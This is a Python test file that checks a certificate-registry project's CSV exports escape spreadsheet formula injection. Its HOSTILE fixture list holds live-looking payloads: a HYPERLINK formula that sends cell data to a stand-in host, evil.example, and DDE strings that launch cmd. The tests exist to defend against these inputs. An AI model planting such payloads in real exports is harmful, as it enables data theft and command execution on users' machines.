"""Every CSV Huren writes is safe to open in a spreadsheet: cells that would run as a formula are quoted."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from digitize.records import records_csv, rows_from_entries, write_registry_csv
from huren import zone
from huren.csvsafe import safe_cell
from huren.domain import CertType, RegistryRecord
from matching.files import write_records
from recognition.recognitions import Recognition, RecognitionStore
from recognition.reissue import certificate_number

from .conftest import AS_OF, Service

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", ["上海青松计量技术服务有限公司", "2025-06-01", "330106198805233941", "a=b", ""])
def test_an_ordinary_cell_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_recognitions_export(service: Service) -> None:
    today = date.fromisoformat(AS_OF)
    for i, employer in enumerate(HOSTILE, 1):
        recognition = Recognition(
            area="qingpu", year=2025, cert_type="registration", cert_number=f"CSV-{i}", holder_name=f"测试{i}",
            recognising_authority=zone.area("qingpu").bureau, issued_on=today, decision_as_of=today, rules_version="t",
            id_number="330106198805233941", valid_until=today + timedelta(days=400), employer=employer,
        )  # fmt: skip
        RecognitionStore(service.engine).record(recognition, lambda seq: certificate_number("qingpu", 2025, seq))
    r = service.client.get("/api/v1/recognitions/export?format=csv", headers=service.headers("otto"))
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert sorted(row["employer"] for row in rows) == sorted(safe_cell(e) for e in HOSTILE)
    assert all(row["employer"].startswith("'") for row in rows)


def _entry(page: int, employer: str) -> dict[str, object]:
    def f(value: object) -> dict[str, object]:
        return {"value": value, "confidence": 1.0, "bbox": [0, 0, 10, 10]}

    return {
        "key": f"{'b' * 32}:{page}", "source": "/box/b.pdf", "page": page, "file_sha256": "b" * 64, "status": "ok",
        "doc_type": "registration_certificate",
        "fields": {"name": f("韦秀旻"), "cert_number": f(f"沪注计2023{page:04d}"), "id_number": f("330106198805233941"),
                   "level": f(2), "issuing_authority": f("上海市市场监督管理局"), "valid_from": f("2023-06-22"),
                   "valid_until": f("2028-06-21"), "employer": f(employer)},
    }  # fmt: skip


def test_digitisation_records_csv_and_its_export() -> None:
    rows = rows_from_entries({f"{'b' * 32}:{i}": _entry(i, e) for i, e in enumerate(HOSTILE, 1)})
    written = list(csv.DictReader(io.StringIO(records_csv(rows))))
    assert sorted(r["employer"] for r in written) == sorted(safe_cell(e) for e in HOSTILE)
    assert all(r["employer"].startswith("'") for r in written)
    out = io.StringIO()
    write_registry_csv(rows, out)
    exported = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert all(r["employer"].startswith("'") for r in exported)


def test_registry_export() -> None:
    record = RegistryRecord(CertType.REGISTRATION, "沪注计20230001", "韦秀旻", employer="=cmd|'/C calc'!A0")
    out = io.StringIO()
    write_records([record], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["employer"] == "'=cmd|'/C calc'!A0" and row["name"] == "韦秀旻"
